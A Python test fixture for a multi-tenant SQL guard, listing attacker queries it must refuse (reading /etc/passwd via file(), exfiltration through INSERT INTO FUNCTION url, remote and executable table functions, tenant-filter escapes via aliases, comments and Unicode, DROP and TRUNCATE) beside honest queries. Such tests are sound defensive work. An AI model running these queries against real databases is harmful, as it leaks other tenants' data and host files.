"""Queries of an attacker who is tenant A and writes any text, beside queries of honest use.

The database ``app`` holds ``contacts`` and ``visits`` (tenants'), ``countries`` (shared) and
``salaries``, which nobody listed. Every secret of another tenant, and of ``salaries``, has the
word SECRET in it. One table of rows, and so longer than other files.
"""

A = "7f1c9a52-3f0e-4c8e-9f3b-0d7a8f5d2c11"
B = "0b51a6f1-2d3c-4e4f-8a5b-6c7d8e9f0a1b"
TENANTS = ("contacts", "visits")
SHARED = ("countries",)
_TABLES = f"""
CREATE TABLE app.contacts (id UInt32, tenant_id UUID, name String, amount Int64,
    tags Array(String), at DateTime, note Nullable(String)) ENGINE = MergeTree ORDER BY id;
CREATE TABLE app.visits (id UInt32, tenant_id UUID, contact UInt32, page String,
    at DateTime) ENGINE = ReplacingMergeTree ORDER BY id SAMPLE BY id;
CREATE TABLE app.countries (code String, title String) ENGINE = MergeTree ORDER BY code;
CREATE TABLE app.salaries (id UInt32, title String) ENGINE = MergeTree ORDER BY id;
INSERT INTO app.contacts VALUES (1, '{A}', 'ann', 10, ['x', 'y'], '2026-01-01 00:00:00', 'n'),
    (2, '{A}', 'abe', 20, ['y'], '2026-02-01 00:00:00', NULL),
    (3, '{B}', 'SECRET bob', 30, ['SECRET z'], '2026-03-01 00:00:00', 'SECRET'),
    (4, '{B}', 'SECRET bea', 40, [], '2026-04-01 00:00:00', NULL);
INSERT INTO app.visits VALUES (1, '{A}', 1, 'home', '2026-01-01 00:00:00'),
    (2, '{B}', 3, 'SECRET home', '2026-01-02 00:00:00'),
    (3, '{B}', 1, 'SECRET x', '2026-01-03 00:00:00');
INSERT INTO app.countries VALUES ('at', 'Austria'), ('nz', 'New Zealand');
INSERT INTO app.salaries VALUES (1, 'SECRET ceo')
"""
TABLES = [each.strip() for each in _TABLES.split(";")]

REFUSED: dict[str, tuple[str, str]] = {
    # Statements
    "two statements": ("SELECT 1; SELECT name FROM contacts", "second statement"),
    "a semicolon alone": ("SELECT 1;", "semicolon"),
    "nothing": ("", "empty query"),
    "brackets alone": ("((", "empty query"),
    "ALTER DELETE": ("ALTER TABLE contacts DELETE WHERE 1", "begins with ALTER"),
    "ALTER UPDATE": ("ALTER TABLE contacts UPDATE amount = 0 WHERE 1", "begins with ALTER"),
    "DELETE": ("DELETE FROM contacts WHERE 1", "begins with DELETE"),
    "UPDATE": ("UPDATE contacts SET amount = 0 WHERE 1", "begins with UPDATE"),
    "TRUNCATE": ("TRUNCATE TABLE contacts", "begins with TRUNCATE"),
    "DROP": ("DROP TABLE contacts", "begins with DROP"),
    "CREATE VIEW": ("CREATE VIEW v AS SELECT * FROM contacts", "begins with CREATE"),
    "SET": ("SET SQL_tenant_id = 'x'", "begins with SET"),
    "SET ROLE": ("SET ROLE ALL", "begins with SET"),
    "USE": ("USE system", "begins with USE"),
    "EXPLAIN": ("EXPLAIN ESTIMATE SELECT * FROM contacts", "begins with EXPLAIN"),
    "DESCRIBE": ("DESCRIBE TABLE contacts", "begins with DESCRIBE"),
    "SHOW": ("SHOW TABLES", "begins with SHOW"),
    "EXISTS": ("EXISTS TABLE salaries", "begins with EXISTS"),
    "SYSTEM": ("SYSTEM FLUSH LOGS", "begins with SYSTEM"),
    "KILL": ("KILL QUERY WHERE 1", "begins with KILL"),
    "GRANT": ("GRANT ALL ON *.* TO x", "begins with GRANT"),
    "EXECUTE AS": ("EXECUTE AS admin SELECT 1", "begins with EXECUTE"),
    "BACKUP": ("BACKUP TABLE contacts TO File('x')", "begins with BACKUP"),
    "OPTIMIZE": ("OPTIMIZE TABLE contacts FINAL", "begins with OPTIMIZE"),
    "a command in brackets": ("(DROP TABLE contacts)", "begins with DROP"),
    "SELECT behind a comment": ("/* SELECT */ DROP TABLE contacts", "begins with DROP"),
    # Clauses
    "SETTINGS": ("SELECT name FROM contacts SETTINGS SQL_tenant_id = 'x'", "SETTINGS"),
    "SETTINGS within": ("SELECT * FROM (SELECT 1 AS a SETTINGS max_threads = 1) AS s", "SETTINGS"),
    "SETTINGS of a union": ("SELECT 1 UNION ALL SELECT 2 SETTINGS max_threads = 1", "SETTINGS"),
    "FORMAT": ("SELECT name FROM contacts FORMAT JSON", "FORMAT"),
    "INTO OUTFILE": ("SELECT name FROM contacts INTO OUTFILE 'x'", "can't read"),
    "PARALLEL WITH": ("SELECT 1 PARALLEL WITH SELECT 2", "can't read"),
    "WITH RECURSIVE": (
        "WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r) SELECT n FROM r",
        "RECURSIVE",
    ),
    "INTERPOLATE": (
        "SELECT id FROM contacts ORDER BY id WITH FILL INTERPOLATE (id AS id + 1)", "INTERPOLATE",
    ),
    "a transformer of columns": ("SELECT * APPLY(toString) FROM contacts", "APPLY"),
    "REPLACE of the tenant": ("SELECT * REPLACE (1 AS tenant_id) FROM contacts", "REPLACE"),
    "COLUMNS": ("SELECT COLUMNS('.*') FROM contacts", "COLUMNS"),
    "PREWHERE with FINAL": ("SELECT id FROM visits FINAL PREWHERE id = 1", "PREWHERE with FINAL"),
    "SAMPLE of an expression": ("SELECT id FROM visits SAMPLE (SELECT 1)", "SAMPLE"),
    "SAMPLE with OFFSET": ("SELECT id FROM visits SAMPLE 1/10 OFFSET 1/2", "SAMPLE with OFFSET"),
    "LIMIT twice": ("SELECT id FROM contacts LIMIT 1 BY id LIMIT 2", "can't read"),
    "ANY of a subquery": ("SELECT 1 = ANY (SELECT id FROM contacts)", "ANY"),
    # Tables
    "a table of nobody": ("SELECT title FROM salaries", "app.salaries"),
    "another database": ("SELECT name FROM other.contacts", "other.contacts"),
    "another case": ("SELECT name FROM Contacts", "app.Contacts"),
    "system": ("SELECT query FROM system.query_log", "system.query_log"),
    "system in quotes": ('SELECT query FROM "system"."query_log"', "system.query_log"),
    "information_schema": ("SELECT * FROM information_schema.tables", "information_schema.tables"),
    "INFORMATION_SCHEMA": ("SELECT * FROM INFORMATION_SCHEMA.TABLES", "INFORMATION_SCHEMA.TABLES"),
    "three parts": ("SELECT * FROM a.app.contacts", "TABLE"),
    "a name with a dot": ("SELECT * FROM `app.salaries`", "the name 'app.salaries'"),
    "by a parameter": ("SELECT * FROM {t:Identifier}", "named by a parameter"),
    "a table with columns": ("SELECT p FROM contacts AS c (p, q)", "function c"),
    "a comma": ("SELECT s.title FROM contacts, salaries AS s", "app.salaries"),
    "a join": ("SELECT title FROM contacts JOIN salaries ON 1 = 1", "app.salaries"),
    "a global join": ("SELECT title FROM contacts GLOBAL JOIN salaries USING (id)", "salaries"),
    "a paste join": ("SELECT title FROM contacts PASTE JOIN salaries", "salaries"),
    "in a subquery": ("SELECT id FROM contacts WHERE id IN (SELECT id FROM salaries)", "salaries"),
    "in a scalar": ("SELECT (SELECT any(title) FROM salaries)", "app.salaries"),
    "in a union": ("SELECT name FROM contacts UNION ALL SELECT title FROM salaries", "salaries"),
    "in EXISTS": ("SELECT 1 WHERE EXISTS(SELECT title FROM salaries)", "app.salaries"),
    "in HAVING": ("SELECT 1 HAVING (SELECT count() FROM salaries) > 0", "app.salaries"),
    "in ORDER BY": ("SELECT 1 ORDER BY (SELECT title FROM salaries)", "app.salaries"),
    "in a lambda": ("SELECT arrayMap(x -> (SELECT any(title) FROM salaries), [1])", "salaries"),
    "in a window": ("SELECT sum(1) OVER (ORDER BY (SELECT title FROM salaries))", "salaries"),
    "in LIMIT": ("SELECT 1 LIMIT (SELECT id FROM salaries)", "salaries"),
    "IN a table": ("SELECT 1 IN salaries", "IN before a name"),
    "IN a table of its database": ("SELECT 1 IN app.salaries", "IN before a name"),
    "IN a table in brackets": ("SELECT 1 IN (salaries)", "IN with a name"),
    "IN a table in two brackets": ("SELECT 1 IN ((salaries))", "IN with a name"),
    "GLOBAL NOT IN a table": ("SELECT 1 GLOBAL NOT IN salaries", "IN before a name"),
    "in() as a function": ("SELECT in(1, salaries)", "can't read"),
    "notIn()": ("SELECT notIn(1, salaries)", "notIn"),
    "globalIn()": ("SELECT globalIn(1, salaries)", "globalIn"),
    "nullIn()": ("SELECT nullIn(1, salaries)", "nullIn"),
    "`in`()": ("SELECT `in`(1, salaries)", "a call of `in`"),
    # Common table expressions
    "WITH of a table's name": (
        "WITH contacts AS (SELECT * FROM visits) SELECT * FROM contacts", "a table's name",
    ),
    "WITH that reads nobody's table": ("WITH x AS (SELECT * FROM salaries) SELECT * FROM x", "app"),
    "WITH that is not in scope": (
        "SELECT * FROM (WITH salaries AS (SELECT 1) SELECT * FROM salaries) AS a, salaries",
        "app.salaries",
    ),
    "WITH that reads itself": ("WITH salaries AS (SELECT * FROM salaries) SELECT * FROM salaries",
                               "app.salaries"),
    "WITH before it is made": (
        "WITH a AS (SELECT * FROM salaries), salaries AS (SELECT 1) SELECT * FROM a", "salaries",
    ),
    "a scalar of WITH as a table": ("WITH (SELECT 1) AS salaries SELECT * FROM salaries", "app"),
    "IN a WITH": ("WITH x AS (SELECT 1) SELECT 1 IN x", "IN before a name"),
    # Names
    "an alias of the column": (f"SELECT '{A}' AS tenant_id, name FROM contacts", "tenant_id"),
    "in quotes": (f'SELECT \'{A}\' AS "tenant_id", name FROM contacts', "tenant_id"),
    "in backquotes": (f"SELECT '{A}' AS `tenant_id`, name FROM contacts", "tenant_id"),
    "without AS": (f"SELECT '{A}' tenant_id, name FROM contacts", "tenant_id"),
    "in capitals": (f"SELECT '{A}' AS TENANT_ID, name FROM contacts", "TENANT_ID"),
    "in brackets": (f"SELECT ('{A}' AS tenant_id), name FROM contacts", "tenant_id"),
    "in WHERE": (f"SELECT name FROM contacts WHERE ('{A}' AS tenant_id) != ''", "tenant_id"),
    "of WITH": (f"WITH '{A}' AS tenant_id SELECT name FROM contacts", "tenant_id"),
    "of ARRAY JOIN": (f"SELECT name FROM contacts ARRAY JOIN ['{A}'] AS tenant_id", "tenant_id"),
    "of a table": ("SELECT name FROM contacts AS tenant_id", "tenant_id"),
    "of a subquery": ("SELECT 1 FROM (SELECT 1) AS tenant_id", "tenant_id"),
    "of a lambda": ("SELECT arrayMap(tenant_id -> tenant_id, [1])", "tenant_id"),
    "of a lambda with two": ("SELECT arrayMap((a, tenant_id) -> a, [1], [2])", "tenant_id"),
    "the guard's rows": ("WITH 1 AS septem_rows SELECT name FROM contacts", "septem_rows"),
    "the guard's rows as a table": ("SELECT septem_rows.id FROM contacts AS septem_rows", "septem"),
    "the guard's WITH": ("SELECT * FROM septem_cte_1", "septem_cte_1"),
    "the guard's parameter": ("SELECT {septem_tenant:UUID}", "septem_tenant"),
    "a name with a quote": ('SELECT "a\\"b" FROM contacts', "quotes"),
    "a name with a doubled quote": ('SELECT 1 AS "a"" FROM salaries --"', "doubled quote"),
    "a column of a database": ("SELECT app.contacts.name FROM contacts", "COLUMN"),
    # Functions
    "file()": ("SELECT file('/etc/passwd')", "file"),
    "dictGet": ("SELECT dictGet('salaries', 'title', 1)", "dictGet"),
    "dictGetOrDefault": ("SELECT dictGetOrDefault('d', 'a', 1, '')", "dictGetOrDefault"),
    "dictHas": ("SELECT dictHas('salaries', 1)", "dictHas"),
    "joinGet": ("SELECT joinGet('app.salaries', 'title', 1)", "joinGet"),
    "getSetting": ("SELECT getSetting('SQL_tenant_id')", "getSetting"),
    "hasColumnInTable": ("SELECT hasColumnInTable('app', 'salaries', 'id')", "hasColumnInTable"),
    "currentUser": ("SELECT currentUser()", "currentUser"),
    "hostName": ("SELECT hostName()", "hostName"),
    "sleep": ("SELECT sleep(3)", "sleep"),
    "sleepEachRow": ("SELECT sleepEachRow(1) FROM contacts", "sleepEachRow"),
    "addressToLine": ("SELECT addressToLine(1)", "addressToLine"),
    "an internal function": ("SELECT __getScalar('x')", "__getScalar"),
    "a function of a user": ("SELECT myUdf(1)", "myUdf"),
    "an aggregate made up": ("SELECT salariesIf(1)", "salariesIf"),
    "a function in quotes": ("SELECT `file`('/etc/passwd')", "a call of `file`"),
    "a function behind a comment": ("SELECT file/**/('/etc/passwd')", "file"),
    "a function over lines": ("SELECT file\n(\n'/etc/passwd')", "file"),
    # Functions of tables
    "numbers": ("SELECT number FROM numbers(10)", "numbers"),
    "merge": ("SELECT name FROM merge('app', '.*')", "merge"),
    "remote": ("SELECT * FROM remote('127.0.0.1', app.contacts)", "remote"),
    "cluster": ("SELECT * FROM cluster('default', app.contacts)", "cluster"),
    "url": ("SELECT * FROM url('http://127.0.0.1/', 'CSV', 'a String')", "url"),
    "file as a table": ("SELECT * FROM file('/etc/passwd', 'LineAsString')", "file"),
    "s3": ("SELECT * FROM s3('https://b/x', 'CSV')", "s3"),
    "postgresql": ("SELECT * FROM postgresql('h', 'd', 't', 'u', 'p')", "postgresql"),
    "view": ("SELECT * FROM view(SELECT * FROM salaries)", "view"),
    "dictionary": ("SELECT * FROM dictionary('salaries')", "dictionary"),
    "loop": ("SELECT * FROM loop(app.contacts)", "loop"),
    "mergeTreeIndex": ("SELECT * FROM mergeTreeIndex('app', 'contacts')", "mergeTreeIndex"),
    "values": ("SELECT * FROM values('a UInt8', 1)", "values"),
    "executable": ("SELECT * FROM executable('x', 'TSV', 'a String')", "executable"),
    "arrayJoin as a table": ("SELECT * FROM arrayJoin([1])", "table function"),
    # Lexical
    "a heredoc": ("SELECT $$ x $$", "heredoc"),
    "a heredoc with a tag": ("SELECT $a$'$a$, name FROM salaries --'", "heredoc"),
    "a # comment": ("SELECT 1 # FROM contacts", "# comment"),
    "a // comment": ("SELECT 1 // 2", "// comment"),
    "a nested comment": ("SELECT 1 /* /* */ , title FROM salaries -- */", "comment"),
    "a comment without end": ("SELECT 1 /* x", "comment"),
    "a carriage return in a comment": ("SELECT 1 -- \r, title FROM salaries", "carriage return"),
    "a text without end": ("SELECT 'x", "does not end"),
    "an odd escape": ("SELECT '\\x27 FROM salaries'", "escape"),
    "an escape of nothing": ("SELECT '\\N'", "escape"),
    "a text with a prefix": ("SELECT x'27'", "prefix"),
    "texts side by side": ("SELECT 'a''b' 'c'", "side by side"),
    "curly quotes": ("SELECT \u2018x\u2019", "U+2018"),
    "a wide bracket": ("SELECT \uff08SELECT 1\uff09", "U+FF08"),
    "a space that is none": ("SELECT\u00a01", "U+00A0"),
    "a zero byte": ("SELECT 1\0", "U+0000"),
    "a letter that is not ASCII": ("SELECT \u0442enant_id FROM contacts", "U+0442"),
    "a lone surrogate": ("SELECT '\ud800'", "surrogate"),
    "a number with letters": ("SELECT 1e5x", "letters"),
    "a tuple's element": ("SELECT tags.1 FROM contacts", "tupleElement"),
    "IN a lambda's argument": ("SELECT arrayMap(s -> 1 IN (s), [1])", "IN with a name"),
    "a percent parameter": ("SELECT name FROM contacts WHERE id = %(id)s", "can't read"),
    "an arrow outside": ("SELECT name -> 1 FROM contacts", "arrow"),
    "a parameter of a name": ("SELECT {c:Identifier} FROM contacts", "no value"),
    "a parameter of an alias": ("SELECT 1 AS {c:Identifier} FROM contacts", "no value"),
    "a hundred brackets": ("SELECT " + "(" * 100 + "1" + ")" * 100, "brackets open"),
    "too long": ("SELECT '" + "x" * 70_000 + "'", "bytes"),
    "a long chain": ("SELECT 1" + " + 1" * 8_000, "deep"),
    # INSERT
    "INSERT of values": ("INSERT INTO contacts (id) VALUES (1)", "begins with VALUES"),
    "INSERT of a format": ("INSERT INTO contacts (id) FORMAT CSV 1", "begins with FORMAT"),
    "INSERT without columns": ("INSERT INTO contacts SELECT * FROM contacts", "without its"),
    "INSERT of a tenant": (
        f"INSERT INTO contacts (id, tenant_id) SELECT 1, '{B}'", "a value for tenant_id",
    ),
    "INSERT of a tenant in capitals": ("INSERT INTO contacts (TENANT_ID) SELECT 1", "a value for"),
    "INSERT into a shared table": ("INSERT INTO countries (code) SELECT 'x'", "INSERT into"),
    "INSERT into nobody's": ("INSERT INTO salaries (id) SELECT 1", "INSERT into"),
    "INSERT into a function": (
        "INSERT INTO FUNCTION url('http://h/') SELECT name FROM contacts", "INSERT",
    ),
    "INSERT of nobody's": ("INSERT INTO contacts (name) SELECT title FROM salaries", "salaries"),
    "INSERT with SETTINGS": (
        "INSERT INTO contacts (id) SETTINGS async_insert = 1 SELECT 1", "begins with SETTINGS",
    ),
    "INSERT from a file": ("INSERT INTO contacts (id) FROM INFILE 'x' FORMAT CSV", "FORMAT"),
    "INSERT with EXCEPT": ("INSERT INTO contacts (* EXCEPT(id)) SELECT 1", "INSERT"),
}  # fmt: skip
"""By name: the query, and a part of what the refusal says."""

SENT: dict[str, str] = {
    "everything": "SELECT * FROM contacts",
    "all columns in brackets": "SELECT (*) FROM contacts",
    "OR 1=1": "SELECT name FROM contacts WHERE id = 9 OR 1 = 1",
    "a tenant of another": f"SELECT name FROM contacts WHERE tenant_id = '{B}'",
    "a tenant or any": f"SELECT name FROM contacts WHERE tenant_id = '{B}' OR 1",
    "NOT": (
        "SELECT name FROM contacts WHERE NOT (tenant_id = "
        "'00000000-0000-0000-0000-000000000000')"
    ),
    "a comment that eats": "SELECT name FROM contacts -- WHERE id = 1",
    "a comment between": "SELECT/**/name/* x */FROM contacts",
    "a union": "SELECT name FROM contacts UNION ALL SELECT page FROM visits",
    "a distinct union": "(SELECT name FROM contacts) UNION DISTINCT (SELECT page FROM visits)",
    "EXCEPT": "SELECT id FROM contacts EXCEPT SELECT contact FROM visits",
    "INTERSECT": "SELECT id FROM contacts INTERSECT SELECT contact FROM visits",
    "a subquery": "SELECT name FROM (SELECT * FROM contacts) AS c",
    "a scalar": "SELECT (SELECT max(name) FROM contacts) AS m, count() FROM visits",
    "IN a subquery": "SELECT page FROM visits WHERE contact IN (SELECT id FROM contacts)",
    "NOT IN a subquery": "SELECT page FROM visits WHERE contact NOT IN (SELECT id FROM contacts)",
    "GLOBAL IN": "SELECT page FROM visits WHERE contact GLOBAL IN (SELECT id FROM contacts)",
    "a join": "SELECT c.name, v.page FROM contacts AS c JOIN visits AS v ON v.contact = c.id",
    "a left join": (
        "SELECT c.name, v.page FROM contacts AS c LEFT JOIN visits AS v ON v.contact = "
        "c.id"
    ),
    "a right join": "SELECT c.name, v.page FROM contacts c RIGHT JOIN visits v ON v.contact = c.id",
    "a full join": "SELECT c.name, v.page FROM contacts c FULL JOIN visits v ON v.contact = c.id",
    "an any join": "SELECT c.name FROM contacts AS c ANY LEFT JOIN visits AS v USING (id)",
    "a comma": "SELECT c.name, v.page FROM contacts c, visits v",
    "with itself": "SELECT a.name, b.name FROM contacts a CROSS JOIN contacts b",
    "a shared table": "SELECT c.name, k.title FROM contacts AS c CROSS JOIN countries AS k",
    "shared alone": "SELECT title FROM countries ORDER BY title",
    "FINAL": "SELECT page FROM visits FINAL",
    "SAMPLE": "SELECT page FROM visits SAMPLE 1/2",
    "PREWHERE": "SELECT name FROM contacts PREWHERE amount > 0 WHERE id > 0",
    "PREWHERE or": "SELECT name FROM contacts PREWHERE 0 OR 1",
    "ARRAY JOIN": "SELECT name, t FROM contacts ARRAY JOIN tags AS t",
    "LEFT ARRAY JOIN": "SELECT name, t FROM contacts LEFT ARRAY JOIN tags AS t",
    "arrayJoin": "SELECT arrayJoin(tags) FROM contacts",
    "WITH": "WITH x AS (SELECT name FROM contacts) SELECT name FROM x UNION ALL SELECT name FROM x",
    "WITH after WITH": (
        "WITH x AS (SELECT id FROM contacts), y AS (SELECT id FROM x) SELECT id FROM "
        "y"
    ),
    "WITH of a scalar": (
        "WITH (SELECT max(amount) FROM contacts) AS m SELECT name FROM contacts WHERE "
        "amount = m"
    ),
    "WITH of an expression": "WITH amount * 2 AS twice SELECT name, twice FROM contacts",
    "WITH within": "SELECT * FROM (WITH x AS (SELECT 1 AS a) SELECT a FROM x) AS s",
    "GROUP BY": "SELECT tenant_id, count() FROM contacts GROUP BY tenant_id WITH TOTALS",
    "ROLLUP": "SELECT name, sum(amount) FROM contacts GROUP BY ROLLUP (name)",
    "HAVING": "SELECT name, sum(amount) AS s FROM contacts GROUP BY name HAVING s > 10",
    "a window": (
        "SELECT name, sum(amount) OVER (ORDER BY id ROWS BETWEEN 1 PRECEDING AND CURRENT "
        "ROW) FROM contacts"
    ),
    "a named window": "SELECT sum(amount) OVER w FROM contacts WINDOW w AS (PARTITION BY name)",
    "LIMIT": "SELECT name FROM contacts ORDER BY id DESC LIMIT 1 OFFSET 1",
    "LIMIT BY": "SELECT name FROM contacts ORDER BY id LIMIT 1 BY name",
    "WITH TIES": "SELECT name FROM contacts ORDER BY id LIMIT 1 WITH TIES",
    "WITH FILL": "SELECT id FROM contacts ORDER BY id WITH FILL FROM 1 TO 5",
    "DISTINCT ON": "SELECT DISTINCT ON (name) name, id FROM contacts ORDER BY id",
    "a lambda": "SELECT arrayMap(x -> concat(x, name), tags) FROM contacts",
    "aggregates": (
        "SELECT countIf(amount > 10), uniqExact(name), quantile(0.5)(amount), "
        "groupArray(name) FROM contacts"
    ),
    "combinators": (
        "SELECT sumIfOrNull(amount, id > 100), anyLast(name), argMax(name, amount) FROM "
        "contacts"
    ),
    "CASE": "SELECT CASE WHEN amount > 10 THEN name ELSE 'x' END FROM contacts",
    "a ternary": "SELECT amount > 10 ? name : 'x' FROM contacts",
    "casts": "SELECT amount::String, CAST(id AS Nullable(UInt64)), toDate(at) FROM contacts",
    "dates": "SELECT toStartOfMonth(at), dateDiff('day', at, at + INTERVAL 3 DAY) FROM contacts",
    "LIKE": "SELECT name FROM contacts WHERE name LIKE 'a\\%' OR name LIKE '%' OR name ILIKE 'A%'",
    "BETWEEN": "SELECT name FROM contacts WHERE amount BETWEEN 1 AND 100 AND note IS NULL",
    "texts with quotes": (
        "SELECT 'it''s', 'it\\'s', '\\\\', ';', '--', '/*', '#', '$$' FROM "
        "contacts"
    ),
    "a text that attacks": "SELECT 'x) UNION ALL SELECT title FROM app.salaries --' FROM contacts",
    "FROM first": "FROM contacts SELECT name",
    "no table": "SELECT 1 + 1, 'x', now() > toDateTime(0)",
    "a name in quotes": 'SELECT "name" FROM "app"."contacts" AS "weird name"',
    "an alias like a table": "SELECT countries.name FROM contacts AS countries",
    "the same alias twice": "SELECT c.name FROM (SELECT * FROM contacts AS c) AS c",
    "EXISTS": "SELECT name FROM contacts WHERE EXISTS(SELECT 1 FROM visits)",
    "a tuple IN": "SELECT name FROM contacts WHERE (id, name) IN ((1, 'ann'), (3, 'SECRET bob'))",
    "throwIf": "SELECT throwIf(position(name, 'SECRET') > 0) FROM contacts",
    "* EXCEPT": "SELECT * EXCEPT (tags) FROM contacts",
    "nested five times": (
        "SELECT name FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM contacts) AS a) "
        "AS b) AS c"
    ),
}  # fmt: skip
"""By name: queries that are sent, and show rows of A alone."""
